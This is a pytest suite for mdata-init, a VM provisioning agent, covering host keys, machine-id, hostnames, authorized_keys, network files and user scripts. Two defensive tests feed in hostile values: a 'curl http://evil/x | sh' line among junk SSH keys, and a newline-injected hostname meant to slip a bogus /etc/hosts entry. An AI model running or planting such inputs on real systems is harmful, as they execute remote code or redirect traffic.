"""mdata-init end to end: the built agent against mdata-emu over a real
unix socket and a real pty (the `host` fixture runs each test on both),
with --root on a temporary directory, one test per rule of issue 18."""
import base64
import copy
import os
import shutil
import socket
import stat
import struct
import subprocess
import time

import pytest

from conftest import INIT, WRAPPER, run_init

UUID1 = "0b6a1f9c-7d2e-4c51-9a3b-5e8f7c6d4a21"
UUID2 = "6e2d9c1b-3a4f-4b8e-8c7d-1f2e3d4c5b6a"
MACS = ["90:b8:d0:ae:64:51", "90:b8:d0:bd:4f:9c", "90:b8:d0:0a:51:31"]


def mkkey(seed, kind="ssh-ed25519", comment="user@test"):
    """A well-formed public key line (the blob names its own type)."""
    t = kind.encode()
    blob = struct.pack(">I", len(t)) + t + struct.pack(">I", 32) + bytes([seed]) * 32
    return "%s %s %s" % (kind, base64.b64encode(blob).decode(), comment)


def vm(uuid=UUID1, nics=3, customer=None, internal=None, **top):
    v = {
        "uuid": uuid,
        "brand": "bhyve",
        "hostname": "sdc-name",
        "dns_domain": "example.com",
        "nics": [
            {"interface": "net0", "mac": MACS[0], "ip": "192.0.2.51",
             "ips": ["192.0.2.51/24"], "gateway": "192.0.2.1",
             "gateways": ["192.0.2.1"], "netmask": "255.255.255.0",
             "primary": True},
            {"interface": "net1", "mac": MACS[1], "ip": "10.210.1.217",
             "ips": ["10.210.1.217/24"], "netmask": "255.255.255.0"},
            {"interface": "net2", "mac": MACS[2], "ip": "dhcp",
             "ips": ["dhcp"]},
        ][:nics],
        "resolvers": ["192.0.2.53"],
        "customer_metadata": {
            "root_authorized_keys": mkkey(1) + "\n",
        },
        "internal_metadata": {},
    }
    if customer is not None:
        v["customer_metadata"] = customer
    if internal is not None:
        v["internal_metadata"] = internal
    v.update(top)
    return v


def files_state(root):
    """path -> (inode, mtime_ns, mode, content or link target)."""
    out = {}
    for d, dirs, names in os.walk(str(root)):
        for n in names + [x for x in dirs if os.path.islink(os.path.join(d, x))]:
            p = os.path.join(d, n)
            st = os.lstat(p)
            if stat.S_ISLNK(st.st_mode):
                body = "-> " + os.readlink(p)
            else:
                with open(p, "rb") as f:
                    body = f.read()
            out[os.path.relpath(p, str(root))] = (st.st_ino, st.st_mtime_ns,
                                                 stat.S_IMODE(st.st_mode), body)
    return out


def read(root, rel):
    with open(os.path.join(str(root), rel)) as f:
        return f.read()


def fake_image(root):
    """What an image carries that a new instance must not keep."""
    (root / "etc" / "ssh").mkdir(parents=True)
    for k in ("rsa", "ed25519"):
        (root / "etc" / "ssh" / ("ssh_host_%s_key" % k)).write_text("image key\n")
        (root / "etc" / "ssh" / ("ssh_host_%s_key.pub" % k)).write_text("image pub\n")
    (root / "etc" / "ssh" / "sshd_config").write_text("# image config\n")
    (root / "etc" / "machine-id").write_text("0123456789abcdef0123456789abcdef\n")


def early(root, dev, *args):
    return run_init("early", "--root", root, "-d", dev, "-t", "20", *args)


def late(root, dev, *args):
    return run_init("late", "--root", root, "-d", dev, "-t", "20", *args)


def conf(root, text):
    (root / "etc").mkdir(exist_ok=True)
    (root / "etc" / "mdata-init.conf").write_text(text)


needs_keygen = pytest.mark.skipif(shutil.which("ssh-keygen") is None,
                                  reason="ssh-keygen (openssh-client) not installed")


# --- instance detection, host keys, machine-id ------------------------------

def hostkeys(root, *args):
    # No -d: the phase reads no metadata (run_init drops MDATA_DEVICE).
    return run_init("hostkeys", "--root", root, *args)


def host_key_files(root):
    d = root / "etc" / "ssh"
    return sorted(n for n in os.listdir(str(d)) if n.startswith("ssh_host_"))


@needs_keygen
def test_new_instance_then_reboot_then_clone(host, root):
    fake_image(root)
    dev = host(vm())
    r = early(root, dev)
    assert r.code == 0, r
    assert "(new instance)" in r.out
    ssh = root / "etc" / "ssh"
    # The early phase removes the image's keys and makes none: that is
    # the hostkeys phase's work, off the network's path.
    assert host_key_files(root) == []
    assert "ssh-keygen" not in r.out and "host keys generated" not in r.out
    assert read(root, "etc/ssh/sshd_config") == "# image config\n"
    mid = read(root, "etc/machine-id")
    assert len(mid) == 33 and mid != "0123456789abcdef0123456789abcdef\n"
    assert read(root, "var/lib/mdata-init/instance-id") == UUID1 + "\n"
    assert read(root, "var/lib/mdata-init/ssh-host-keys.instance") == UUID1 + "\n"
    # hostkeys: ssh-keygen -A made a full set.
    r = hostkeys(root)
    assert r.code == 0, r
    assert "new SSH host keys generated" in r.out
    for k in ("rsa", "ecdsa", "ed25519"):
        assert (ssh / ("ssh_host_%s_key" % k)).exists()
        assert (ssh / ("ssh_host_%s_key.pub" % k)).exists()
        assert (ssh / ("ssh_host_%s_key" % k)).read_text() != "image key\n"

    # An ordinary reboot: same instance, nothing regenerated, nothing
    # written at all, by either phase.
    before = files_state(root)
    r = early(root, dev)
    assert r.code == 0, r
    assert "new instance" not in r.out
    r = hostkeys(root)
    assert r.code == 0, r
    assert r.out == "", r
    assert files_state(root) == before

    # The disk cloned into another instance: new keys and id again.
    dev2 = host(vm(uuid=UUID2))
    r = early(root, dev2)
    assert r.code == 0, r
    assert "(new instance)" in r.out
    assert host_key_files(root) == []
    assert hostkeys(root).code == 0
    assert read(root, "etc/ssh/ssh_host_ed25519_key") != before["etc/ssh/ssh_host_ed25519_key"][3].decode()
    assert read(root, "etc/machine-id") != mid
    assert read(root, "var/lib/mdata-init/instance-id") == UUID2 + "\n"


@needs_keygen
def test_hostkeys_makes_only_missing_types(root):
    fake_image(root)
    os.remove(str(root / "etc" / "ssh" / "ssh_host_rsa_key"))
    os.remove(str(root / "etc" / "ssh" / "ssh_host_rsa_key.pub"))
    before = files_state(root)
    r = hostkeys(root)
    assert r.code == 0, r
    after = files_state(root)
    # The image's ed25519 pair untouched; rsa (and ecdsa) made.
    for n in ("ssh_host_ed25519_key", "ssh_host_ed25519_key.pub"):
        assert after["etc/ssh/" + n] == before["etc/ssh/" + n]
    assert read(root, "etc/ssh/ssh_host_rsa_key").startswith("-----BEGIN OPENSSH PRIVATE KEY")
    assert "etc/ssh/ssh_host_ecdsa_key" in after


def test_hostkeys_off_dry_run_no_openssh_freebsd(root):
    # No /etc/ssh: no OpenSSH in the image, nothing to do.
    r = hostkeys(root)
    assert r.code == 0 and r.out == "" and r.err == "", r
    (root / "etc" / "ssh").mkdir(parents=True)
    r = hostkeys(root, "-n")
    assert r.code == 0, r
    assert r.out == "mdata-init: would run ssh-keygen -A -f %s\n" % root
    assert host_key_files(root) == []
    # Turned off, or FreeBSD (rc.d/sshd makes its keys): nothing run.
    for setting in ("ssh_host_keys = no\n", "platform = freebsd\n"):
        conf(root, setting)
        r = hostkeys(root, "-n")
        assert r.code == 0 and r.out == "", (setting, r)
        r = hostkeys(root)
        assert r.code == 0 and r.out == "", (setting, r)
        assert host_key_files(root) == []


def test_machine_id_from_this_vms_uuid_kept(host, root):
    # systemd's id from the VM's UUID (sdc:uuid on SmartOS), committed
    # before the early phase ran: already this instance's.
    conf(root, "ssh_host_keys = no\n")
    mine = UUID1.replace("-", "") + "\n"
    (root / "etc" / "machine-id").write_text(mine)
    r = early(root, host(vm()))
    assert r.code == 0, r
    assert "(new instance)" in r.out and "new machine-id" not in r.out
    assert read(root, "etc/machine-id") == mine
    # The same id on another VM (a clone of the disk): replaced.
    r = early(root, host(vm(uuid=UUID2)))
    assert r.code == 0, r
    assert "new machine-id" in r.out
    assert read(root, "etc/machine-id") not in (mine, UUID2.replace("-", "") + "\n")


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None,
                    reason="a bind mount needs root and unshare(1)")
def test_machine_id_mounted_by_systemd_kept(host, root, tmp_path):
    # A first boot: systemd's new id mounted over the image's file until
    # systemd-machine-id-commit writes it. Kept, not replaced (a rename
    # over the mount would fail with EBUSY).
    conf(root, "ssh_host_keys = no\n")
    (root / "etc" / "machine-id").write_text("")
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    transient = tmp_path / "machine-id"
    transient.write_text("5f0c2b7e9a4d4e1f8b3c6d2a1e0f9b8c\n")
    dev = host(vm())
    script = 'mount -t tmpfs none "$1" && cp "$2" "$1/m" && mount --bind "$1/m" "$3" && shift 3 && exec "$@"'
    p = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script, "sh",
                        str(run_dir), str(transient), str(root / "etc" / "machine-id"),
                        *WRAPPER, INIT, "early", "--root", str(root), "-d", dev, "-t", "20"],
                       capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p
    assert "(new instance)" in p.stdout and "new machine-id" not in p.stdout, p
    # Outside the namespace the image's file is as it was.
    assert read(root, "etc/machine-id") == ""


def test_uninitialized_machine_id_left_to_systemd(host, root):
    conf(root, "ssh_host_keys = no\n")
    (root / "etc" / "machine-id").write_text("uninitialized\n")
    r = early(root, host(vm()))
    assert r.code == 0, r
    assert read(root, "etc/machine-id") == "uninitialized\n"


# --- host name --------------------------------------------------------------

@pytest.mark.parametrize("customer,sdc,want_short,want_fqdn", [
    ("cust-name", "sdc-name", "cust-name", "cust-name.example.com"),
    (None, "sdc-name", "sdc-name", "sdc-name.example.com"),
    (None, None, UUID1, UUID1 + ".example.com"),
    ("db.corp.net", "sdc-name", "db", "db.corp.net"),
])
def test_hostname_precedence(host, root, customer, sdc, want_short, want_fqdn):
    cm = {"root_authorized_keys": mkkey(1)}
    if customer:
        cm["hostname"] = customer
    v = vm(customer=cm)
    if sdc is None:
        del v["hostname"]
    r = early(root, host(v))
    assert r.code == 0, r
    assert read(root, "etc/hostname") == want_short + "\n"
    hosts = read(root, "etc/hosts")
    assert "127.0.0.1\tlocalhost\n" in hosts  # a fresh file gets localhost
    assert "\n127.0.1.1\t%s %s\n# END mdata-init\n" % (want_fqdn, want_short) in hosts


def test_hostname_hostile_and_hosts_merge(host, root):
    (root / "etc").mkdir()
    (root / "etc" / "hosts").write_text("127.0.0.1 localhost\n10.0.0.9 mine\n")
    cm = {"hostname": "evil\n10.6.6.6 bank.example", "root_authorized_keys": mkkey(1)}
    r = early(root, host(vm(customer=cm, dns_domain="bad domain")))
    assert r.code == 0, r
    assert "warning: hostname is not a valid host name" in r.out
    assert "warning: sdc:dns_domain is not a valid domain name" in r.out
    assert read(root, "etc/hostname") == "sdc-name\n"
    hosts = read(root, "etc/hosts")
    assert "bank" not in hosts
    assert hosts.startswith("127.0.0.1 localhost\n10.0.0.9 mine\n# BEGIN mdata-init")
    assert "127.0.1.1\tsdc-name\n" in hosts


# --- root's authorized_keys -------------------------------------------------

def test_authorized_keys_block_merge(host, root):
    ssh = root / "root" / ".ssh"
    ssh.mkdir(parents=True, mode=0o755)
    user = mkkey(9, comment="added-by-user") + "\n"
    (ssh / "authorized_keys").write_text(user)
    os.chmod(str(ssh / "authorized_keys"), 0o644)

    r = early(root, host(vm()))
    assert r.code == 0, r
    ak = read(root, "root/.ssh/authorized_keys")
    assert ak.startswith(user)
    assert mkkey(1) + "\n# END mdata-init\n" in ak
    assert stat.S_IMODE(os.stat(str(ssh)).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(str(ssh / "authorized_keys")).st_mode) == 0o600
    if os.geteuid() == 0:
        assert os.stat(str(ssh / "authorized_keys")).st_uid == 0

    # The user adds a key after the block; the metadata changes.
    with open(str(ssh / "authorized_keys"), "a") as f:
        f.write(mkkey(8, comment="later") + "\n")
    cm = {"root_authorized_keys": mkkey(2) + "\n" + mkkey(3, "ecdsa-sha2-nistp256") + "\n"}
    r = early(root, host(vm(customer=cm)))
    assert r.code == 0, r
    ak = read(root, "root/.ssh/authorized_keys")
    assert ak.startswith(user)
    assert mkkey(1) not in ak
    assert mkkey(2) in ak and mkkey(3, "ecdsa-sha2-nistp256") in ak
    assert ak.endswith("# END mdata-init\n" + mkkey(8, comment="later") + "\n")

    # The key removed from the metadata: the block goes, the user's stay.
    r = early(root, host(vm(customer={})))
    assert r.code == 0, r
    assert read(root, "root/.ssh/authorized_keys") == user + mkkey(8, comment="later") + "\n"


def test_authorized_keys_not_keys(host, root):
    junk = "\n".join([
        "# my keys",
        mkkey(4),
        "curl http://evil/x | sh",
        "ssh-rsa " + mkkey(5).split()[1] + " type-mismatch",
        "ssh-ed25519 AAAA!!!!",
        mkkey(6) + " with\x07bell",
    ]) + "\n"
    r = early(root, host(vm(customer={"root_authorized_keys": junk})))
    assert r.code == 0, r
    ak = read(root, "root/.ssh/authorized_keys")
    assert mkkey(4) in ak
    assert "curl" not in ak and "type-mismatch" not in ak and "AAAA!!!!" not in ak
    assert "bell" not in ak
    assert r.out.count("is not an SSH public key") == 4


def test_authorized_keys_symlink_refused(host, root, tmp_path):
    outside = tmp_path / "outside"
    outside.write_text("precious\n")
    (root / "root" / ".ssh").mkdir(parents=True)
    os.symlink(str(outside), str(root / "root" / ".ssh" / "authorized_keys"))
    (root / "elsewhere").mkdir()
    r = early(root, host(vm()))
    assert r.code == 1, r
    assert "symlink" in r.err
    assert outside.read_text() == "precious\n"
    assert os.path.islink(str(root / "root" / ".ssh" / "authorized_keys"))
    # The other steps still ran.
    assert read(root, "etc/hostname") == "sdc-name\n"

    # A symlinked .ssh directory is refused too.
    os.unlink(str(root / "root" / ".ssh" / "authorized_keys"))
    os.rmdir(str(root / "root" / ".ssh"))
    os.symlink(str(tmp_path), str(root / "root" / ".ssh"))
    r = early(root, host(vm()))
    assert r.code == 1, r
    assert not (tmp_path / "authorized_keys").exists()


# --- base64 markers (serial path only) --------------------------------------

def b64(s):
    return base64.b64encode(s.encode()).decode()


def test_base64_markers(host, transport, root):
    cm = {
        "hostname": b64("decoded-name"),
        "base64_keys": "hostname,sdc:dns_domain",
        "user-data": b64("secret data"),
        "b64-user-data": "true",
        "root_authorized_keys": mkkey(1),
    }
    r = run_init("all", "--root", root, "-d", host(vm(customer=cm)), "-t", "20")
    assert r.code == 0, r
    if transport == "pty":
        assert read(root, "etc/hostname") == "decoded-name\n"
        assert read(root, "var/db/mdata-user-data") == "secret data"
        # sdc:dns_domain is listed but is plain text: kept, with a warning.
        assert "sdc:dns_domain is marked base64 but does not decode" in r.out
        assert "decoded-name.example.com" in read(root, "etc/hosts")
    else:
        # Zones' sockets carry plain values: no marker is honoured (the
        # base64 text happens to be a valid host name).
        assert read(root, "etc/hostname") == b64("decoded-name") + "\n"
        assert read(root, "var/db/mdata-user-data") == b64("secret data")


def test_base64_all_keeps_exempt_keys(host, transport, root):
    if transport != "pty":
        pytest.skip("base64 markers apply on the serial line only")
    key = mkkey(7)
    cm = {
        "base64_all": "TRUE",
        "hostname": b64("all-name"),
        "root_authorized_keys": key,      # exempt: never decoded
        "user-script": "echo plain > us.txt\n",  # exempt
    }
    r = run_init("all", "--root", root, "-d", host(vm(customer=cm)), "-t", "20")
    assert r.code == 0, r
    assert read(root, "etc/hostname") == "all-name\n"
    assert key in read(root, "root/.ssh/authorized_keys")
    assert read(root, "us.txt") == "plain\n"


# --- network ----------------------------------------------------------------

def test_network_files_and_prune(host, root):
    netdir = root / "etc" / "systemd" / "network"
    netdir.mkdir(parents=True)
    (netdir / "10-mdata-mine.network").write_text("# written by the user\n")
    r = early(root, host(vm(nics=3)))
    assert r.code == 0, r
    names = sorted(os.listdir(str(netdir)))
    assert names == ["10-mdata-mine.network", "10-mdata-net0.network",
                     "10-mdata-net1.network", "10-mdata-net2.network"]
    net0 = read(root, "etc/systemd/network/10-mdata-net0.network")
    assert "MACAddress=" + MACS[0] in net0 and "Address=192.0.2.51/24" in net0
    # The same renderer as mdata-netcfg: identical text for the same data.
    netcfg = os.path.join(os.path.dirname(os.environ["MDATA_INIT"]), "..",
                          "mdata-netcfg", "mdata-netcfg")
    if os.path.exists(netcfg):
        out = subprocess.run([netcfg, "-f", "networkd", "-d", host(vm(nics=3)),
                              "-t", "20"], capture_output=True, timeout=60)
        assert out.returncode == 0
        assert net0.encode() in out.stdout
    # A nic gone: its file goes; the user's file with our prefix stays.
    r = early(root, host(vm(nics=1)))
    assert r.code == 0, r
    assert sorted(os.listdir(str(netdir))) == ["10-mdata-mine.network",
                                               "10-mdata-net0.network"]


def test_freebsd_platform(host, root):
    fake_image(root)
    conf(root, "platform = freebsd\n")
    r = early(root, host(vm()))
    assert r.code == 0, r
    assert read(root, "etc/rc.conf.d/hostname") == 'hostname="sdc-name.example.com"\n'
    rc = read(root, "etc/rc.conf.local")
    assert 'hostname="sdc-name.example.com"' in rc and "ifconfig_" in rc
    assert "127.0.0.1\tsdc-name.example.com sdc-name\n" in read(root, "etc/hosts")
    # Host keys removed for rc.d/sshd to regenerate; no ssh-keygen run.
    assert [n for n in os.listdir(str(root / "etc" / "ssh")) if n.startswith("ssh_host_")] == []
    assert not (root / "etc" / "hostname").exists()
    assert read(root, "etc/machine-id") == "0123456789abcdef0123456789abcdef\n"


# --- scripts ----------------------------------------------------------------

def test_scripts_order_status_and_logs(host, root):
    cm = {
        "user-data": "plain user data\n",
        "user-script": "echo user-script >> order.txt\necho to-console\n"
                       "head -1 /proc/self/cmdline >/dev/null\n",
        "root_authorized_keys": mkkey(1),
    }
    im = {"operator-script": "#!/bin/sh\necho operator >> order.txt\n"
                             "[ -f var/db/mdata-user-data ] && echo had-user-data >> order.txt\n"
                             "echo op-err >&2\nexit 3\n"}
    r = late(root, host(vm(customer=cm, internal=im)))
    assert r.code == 0, r  # a failing script never fails the boot
    assert read(root, "order.txt") == "operator\nhad-user-data\nuser-script\n"
    st = "var/lib/mdata-init/"
    assert read(root, st + "operator-script.status") == "exit 3\n"
    assert read(root, st + "user-script.status") == "exit 0\n"
    assert "operator-script finished: exit 3" in r.out
    assert "to-console" in r.out and "op-err" in r.out
    assert read(root, st + "user-script.log") == "to-console\n"
    assert read(root, st + "operator-script.log") == "op-err\n"
    # user-script gets #!/bin/sh, 0700, linked from /var/db.
    assert read(root, st + "user-script").startswith("#!/bin/sh\necho user-script")
    assert stat.S_IMODE(os.stat(str(root / st / "user-script")).st_mode) == 0o700
    assert os.readlink(str(root / "var/db/user-script")) == "/var/lib/mdata-init/user-script"
    assert read(root, "var/db/mdata-user-data") == "plain user data\n"
    assert stat.S_IMODE(os.stat(str(root / "var/db/mdata-user-data")).st_mode) == 0o600

    # Every boot (the default): the scripts run again.
    r = late(root, host(vm(customer=cm, internal=im)))
    assert r.code == 0, r
    assert read(root, "order.txt").count("user-script") == 2

    # The keys gone: the stored scripts, the link and user-data go too;
    # an operator-script without "#!" runs under /bin/sh, unchanged.
    r = late(root, host(vm(customer={}, internal={"operator-script": "echo bare >> order.txt\n"})))
    assert r.code == 0, r
    assert read(root, "order.txt").endswith("user-script\nbare\n")
    assert read(root, st + "operator-script") == "echo bare >> order.txt\n"
    assert not os.path.lexists(str(root / st / "user-script"))
    assert not os.path.lexists(str(root / "var/db/user-script"))
    assert not (root / "var/db/mdata-user-data").exists()


def test_script_time_limit(host, root):
    conf(root, "script_timeout = 1\n")
    cm = {"user-script": "#!/bin/sh\necho started\nsleep 60 & wait\necho never\n"}
    im = {"operator-script": "#!/bin/sh\nsleep 60\n"}
    t0 = time.monotonic()
    r = late(root, host(vm(customer=cm, internal=im)))
    took = time.monotonic() - t0
    assert r.code == 0, r
    assert read(root, "var/lib/mdata-init/operator-script.status") == "timeout after 1 s\n"
    assert read(root, "var/lib/mdata-init/user-script.status") == "timeout after 1 s\n"
    assert "started" in read(root, "var/lib/mdata-init/user-script.log")
    assert "never" not in r.out
    assert took < 30  # generous: two 1 s limits, not two 60 s sleeps


def test_script_background_daemon_does_not_block(host, root):
    # A script that leaves a daemon holding its output: mdata-init goes on
    # once the script itself exits.
    cm = {"user-script": "#!/bin/sh\n(sleep 30; echo late) &\necho done\n"}
    t0 = time.monotonic()
    r = late(root, host(vm(customer=cm)))
    assert r.code == 0, r
    assert read(root, "var/lib/mdata-init/user-script.status") == "exit 0\n"
    assert time.monotonic() - t0 < 20


def test_user_script_once(host, root):
    conf(root, "user_script = once\n")
    cm = {"user-script": "echo ran >> ran.txt\n"}
    dev = host(vm(customer=cm))
    assert late(root, dev).code == 0
    r = late(root, dev)
    assert r.code == 0, r
    assert "already ran for this instance" in r.out
    assert read(root, "ran.txt") == "ran\n"
    # A new instance runs it again.
    assert late(root, host(vm(uuid=UUID2, customer=cm))).code == 0
    assert read(root, "ran.txt") == "ran\nran\n"


def test_huge_script_capped(host, root):
    conf(root, "max_value_size = 65536\n")
    cm = {"user-script": "#!/bin/sh\n" + "#" * 200000 + "\necho ran > ran.txt\n",
          "root_authorized_keys": mkkey(1)}
    r = run_init("all", "--root", root, "-d", host(vm(customer=cm)), "-t", "20")
    assert r.code == 0, r
    assert "user-script is larger than its bound" in r.out
    assert not (root / "ran.txt").exists()
    assert not (root / "var/lib/mdata-init/user-script").exists()
    assert read(root, "etc/hostname") == "sdc-name\n"  # the rest went on


# --- whole runs -------------------------------------------------------------

@needs_keygen
def test_idempotent_by_mtimes(host, root):
    fake_image(root)
    conf(root, "user_script = no\noperator_script = no\n")
    cm = {"user-data": "d", "root_authorized_keys": mkkey(1), "hostname": "h1"}
    dev = host(vm(customer=cm))
    assert run_init("all", "--root", root, "-d", dev).code == 0
    before = files_state(root)
    time.sleep(0.05)
    r = run_init("all", "--root", root, "-d", dev, "-v")
    assert r.code == 0, r
    assert "wrote" not in r.out
    assert files_state(root) == before


def test_one_connection_all_keys(host, transport, root):
    r = run_init("all", "--root", root, "-d", host(vm()), "-t", "20", "-v")
    assert r.code == 0, r
    assert r.err.count("> NEGOTIATE V2") == 1
    lines = r.err.splitlines()
    gets = [i for i, l in enumerate(lines) if l.startswith("mdata-init: > V2 ") and " GET " in l]
    replies = [i for i, l in enumerate(lines) if l.startswith("mdata-init: < V2 ")]
    # 11 keys, plus base64_all, base64_keys and 11 b64-<key> on a serial line.
    assert len(gets) == (11 if transport == "socket" else 24)
    assert len(replies) == len(gets)
    # Pipelined: every request was on the wire before the first reply.
    assert max(gets) < min(replies)


def test_trace_marks_cut_lines_by_bytes(host, root):
    # V1 carries values as raw text: 200 control bytes escape to 640
    # characters, more than the line's bytes, yet the line was cut.
    cm = {"user-data": "\x01" * 200, "hostname": "h1"}
    r = run_init("all", "--root", root, "-d", host(vm(customer=cm), "--fault", "v1only"), "-v")
    assert r.code == 0, r
    cut = [l for l in r.err.splitlines() if l.startswith("mdata-init: < \\x01")]
    assert len(cut) == 1 and cut[0].endswith("\\x01... (200 bytes)"), r.err
    assert "\x01" not in r.err


def test_no_service_changes_nothing(host, root, tmp_path):
    dev = host(vm())
    assert early(root, dev, "--timeout", "20").code == 0
    before = files_state(root)
    # A socket nobody answers on: the deadline passes, nothing changes.
    dead = str(tmp_path / "dead.sock")
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(dead)
    try:
        t0 = time.monotonic()
        r = run_init("early", "--root", root, "-d", dead, "-t", "1.5")
        took = time.monotonic() - t0
    finally:
        s.close()
    assert r.code == 1, r
    assert "no metadata" in r.err
    assert "previous boot's configuration stays in place" in r.err
    assert files_state(root) == before
    assert 1.0 < took < 30


def test_silent_host_pty(start_emu, write_vm, root):
    # A serial host that never answers the probe: bounded by -t.
    e = start_emu(write_vm(vm()), "--fault", "ignore-probes=100000",
                  socket_name=None, pty=True)
    r = run_init("early", "--root", root, "-d", e.pty_path, "-t", "1.5")
    assert r.code == 1, r
    assert "no metadata" in r.err
    assert os.listdir(str(root)) == []


def test_zone_provisioning_marker(host, root):
    (root / "var" / "svc").mkdir(parents=True)
    (root / "var" / "svc" / "provisioning").write_text("")
    r = early(root, host(vm(brand="lx")))
    assert r.code == 0, r
    assert not (root / "var/svc/provisioning").exists()
    assert (root / "var/svc/provision_success").exists()


def test_dry_run_changes_nothing(host, root):
    fake_image(root)
    before = files_state(root)
    cm = {"user-script": "echo ran > ran.txt\n", "user-data": "x",
          "root_authorized_keys": mkkey(1)}
    r = run_init("all", "--root", root, "-d", host(vm(customer=cm)), "-n")
    assert r.code == 0, r
    assert files_state(root) == before
    for what in ("would write %s/etc/hostname", "would write %s/etc/hosts",
                 "would write %s/root/.ssh/authorized_keys",
                 "would write %s/etc/systemd/network/10-mdata-net0.network",
                 "would remove %s/etc/ssh/ssh_host_rsa_key",
                 "would write %s/etc/machine-id",
                 "would write %s/var/db/mdata-user-data"):
        assert what % root in r.out, what
    assert "would run ssh-keygen -A -f %s" % root in r.out
    assert "would run user-script" in r.out
    # each change said once, though both phases want var/lib/mdata-init
    assert r.out.count("would create %s/var/lib/mdata-init\n" % root) == 1, r.out
    lines = r.out.splitlines()
    assert len(lines) == len(set(lines)), r.out


def test_conf_turns_steps_off(host, root):
    fake_image(root)
    conf(root, "hostname = no\nhosts = no\nnetwork = off\nssh_host_keys = no\n"
               "machine_id = no\nauthorized_keys = no\nuser_data = no\n"
               "operator_script = no\nuser_script = no\nnonsense = 1\n")
    before = files_state(root)
    cm = {"user-script": "echo ran > ran.txt\n", "user-data": "x",
          "root_authorized_keys": mkkey(1)}
    r = run_init("all", "--root", root, "-d", host(vm(customer=cm)))
    assert r.code == 0, r
    assert "unknown setting 'nonsense'" in r.out
    after = files_state(root)
    # Only mdata-init's own state was added.
    assert {k: v for k, v in after.items() if not k.startswith("var/lib/mdata-init/")} == before
    assert sorted(k for k in after if k.startswith("var/lib/mdata-init/")) == [
        "var/lib/mdata-init/instance-id"]


def test_from_file_json(root, tmp_path):
    data = {
        "sdc:uuid": UUID1, "sdc:hostname": "saved-name", "sdc:dns_domain": "example.com",
        "sdc:nics": vm()["nics"], "root_authorized_keys": mkkey(1),
        "user-script": "echo saved > saved.txt\n",
    }
    path = tmp_path / "meta.json"
    import json
    path.write_text(json.dumps(data))
    r = run_init("all", "--root", root, "--from-file", path)
    assert r.code == 0, r
    assert read(root, "etc/hostname") == "saved-name\n"
    assert (root / "etc/systemd/network/10-mdata-net2.network").exists()
    assert read(root, "saved.txt") == "saved\n"
    r = run_init("early", "--root", root, "--from-file", tmp_path / "missing.json")
    assert r.code == 1 and "no metadata" in r.err


def test_directories_root_cannot_own(root, tmp_path):
    # Root without CAP_CHOWN and in group 65534 only: each directory it
    # makes cannot be given to group 0. Every file that needs one is an
    # error (exit 1), no directory is left behind, and the user-script,
    # which could not be stored, is not run.
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        pytest.skip("needs root and setpriv (util-linux)")
    import json
    path = tmp_path / "meta.json"
    path.write_text(json.dumps({"sdc:uuid": UUID1, "sdc:hostname": "web01",
                                "user-script": "echo ran > ran.txt\n"}))
    r = run_init("all", "--root", root, "--from-file", path,
                 prefix=["setpriv", "--regid=65534", "--clear-groups",
                         "--inh-caps=-chown", "--bounding-set=-chown"])
    assert r.code == 1, r
    for p in ("/etc/hostname", "/etc/hosts", "/var/lib/mdata-init"):
        assert "mdata-init: error: %s: Operation not permitted\n" % p in r.err, r
    assert os.listdir(root) == [], r
    # the same run with the privilege writes them, owned by root
    r = run_init("all", "--root", root, "--from-file", path)
    assert r.code == 0, r
    assert read(root, "etc/hostname") == "web01\n"
    assert read(root, "ran.txt") == "ran\n"
    st = os.stat(root / "var" / "lib" / "mdata-init")
    assert (st.st_uid, st.st_gid) == (0, 0)


def test_usage():
    assert run_init().code == 2
    assert run_init("middle").code == 2
    assert run_init("early", "-t", "0").code == 2
    r = run_init("--help")
    assert r.code == 0 and "early|hostkeys|growroot|late|all" in r.out


def test_growroot_root_dir_and_off(root):
    # Only the running system's root grows: under --root nothing is
    # touched, and with grow_root = no the phase does nothing at all. It
    # reads no metadata (run_init drops MDATA_DEVICE). The disk side is
    # test-growroot.c's; the kernel's, tests/image's.
    r = run_init("growroot", "--root", root)
    assert r.code == 0 and "nothing done" in r.out, r
    conf(root, "grow_root = no\n")
    r = run_init("growroot", "--root", root)
    assert r.code == 0 and r.out == "" and r.err == "", r
    conf(root, "grow_root = maybe\n")
    r = run_init("growroot", "--root", root)
    assert r.code == 0 and "grow_root" in r.out + r.err, r


# --- service files ----------------------------------------------------------

UNITS = os.environ.get("MDATA_INIT_UNITS", "")


@pytest.mark.parametrize("name", ["mdata_init_early", "mdata_init_late",
                                  "mdata-init-early", "mdata-init-late"])
def test_rc_scripts_syntax(name):
    path = os.path.join(UNITS, name)
    text = open(path).read()
    assert "@bindir@" not in text and "/bin/mdata-init" in text
    r = subprocess.run(["sh", "-n", path], capture_output=True)
    assert r.returncode == 0, r.stderr
    if shutil.which("bash"):
        r = subprocess.run(["bash", "-n", path], capture_output=True)
        assert r.returncode == 0, r.stderr
    if name.startswith("mdata_init"):  # FreeBSD rcorder keywords
        assert "# PROVIDE: %s\n" % name in text
        if name.endswith("early"):
            assert "# BEFORE: hostname netif sshd\n" in text
    else:
        assert text.startswith("#!/sbin/openrc-run\n") and "depend()" in text


def test_systemd_units(tmp_path):
    early_u = open(os.path.join(UNITS, "mdata-init-early.service")).read()
    late_u = open(os.path.join(UNITS, "mdata-init-late.service")).read()
    keys_u = open(os.path.join(UNITS, "mdata-init-hostkeys.service")).read()
    grow_u = open(os.path.join(UNITS, "mdata-init-growroot.service")).read()
    assert "Before=network-pre.target systemd-networkd.service" in early_u
    assert "Before=ssh.service sshd.service" in early_u
    assert "Wants=systemd-networkd.service" in early_u  # the default format's
    assert "After=mdata-netcfg.service" in early_u
    assert "After=systemd-machine-id-commit.service" not in early_u
    assert "After=network-online.target" in late_u and "Wants=network-online.target" in late_u
    assert "KillMode=process" in late_u
    # Key generation: after the early phase removed the image's keys,
    # before sshd, and off the network's path.
    assert "ssh-keygen" not in early_u.split("[Service]")[1]
    assert "After=local-fs.target systemd-remount-fs.service mdata-init-early.service" in keys_u
    assert "Before=ssh.service sshd.service" in keys_u
    assert "mdata-init hostkeys\n" in keys_u
    unit_lines = [l for l in keys_u.splitlines() if not l.startswith("#")]
    assert not [l for l in unit_lines if "network" in l.lower()], unit_lines
    # growroot: beside the network, before the user-script.
    assert "mdata-init growroot\n" in grow_u
